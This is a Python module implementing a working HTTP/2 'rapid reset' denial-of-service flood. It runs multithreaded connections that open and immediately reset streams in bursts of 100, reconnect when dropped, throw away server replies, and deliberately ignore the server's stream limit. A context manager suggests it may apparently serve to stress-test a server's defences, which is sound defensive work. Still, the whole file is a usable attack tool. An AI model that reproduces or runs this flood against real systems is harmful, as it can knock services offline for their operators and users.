"""HTTP/2 rapid reset: connections that open streams and reset each at once, as fast as they can."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from h2.connection import H2Connection
from h2.exceptions import H2Error

BURST = 100
"""Streams that are opened and reset in one write."""


class RapidReset:
    """A flood of streams that are reset at once, over several connections; a connection that is closed is made anew."""

    def __init__(self, address: str, path: str, connections: int = 2) -> None:
        """Start to call ``path`` at ``address`` (host:port)."""
        target = urlsplit(f"//{address}")
        self._target = target.hostname or "", target.port or 0
        self._headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
        self._headers += [("content-type", "application/grpc"), ("te", "trailers")]
        self._stop = threading.Event()
        self.resets = 0
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(connections)]
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        """End the flood."""
        self._stop.set()
        for thread in self._threads:
            thread.join()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                with socket.create_connection(self._target, timeout=5) as sock:
                    self._flood(sock)
            except (OSError, H2Error):
                time.sleep(0.01)

    def _flood(self, sock: socket.socket) -> None:
        """Open and reset streams over one connection, until it breaks or the flood ends. What comes back is not read
        by the protocol: the limit of streams that the server states is of no interest to an attacker.
        """
        connection = H2Connection()
        connection.initiate_connection()
        sock.settimeout(0.05)
        stream = 1
        while not self._stop.is_set() and stream < 2**31:
            for _ in range(BURST):
                connection.send_headers(stream, self._headers)
                connection.reset_stream(stream)
                stream += 2
            self._send(sock, connection.data_to_send())
            self.resets += BURST

    def _send(self, sock: socket.socket, data: bytes) -> None:
        """Send everything, and throw away what arrives meanwhile, so that the server never waits for its reader."""
        while data and not self._stop.is_set():
            try:
                data = data[sock.send(data) :]
            except TimeoutError:
                if not sock.recv(65536):
                    raise ConnectionResetError from None


@contextmanager
def rapid_reset(address: str, path: str) -> Iterator[RapidReset]:
    """Flood ``path`` of a server for as long as the block lasts."""
    flood = RapidReset(address, path)
    try:
        yield flood
    finally:
        flood.stop()
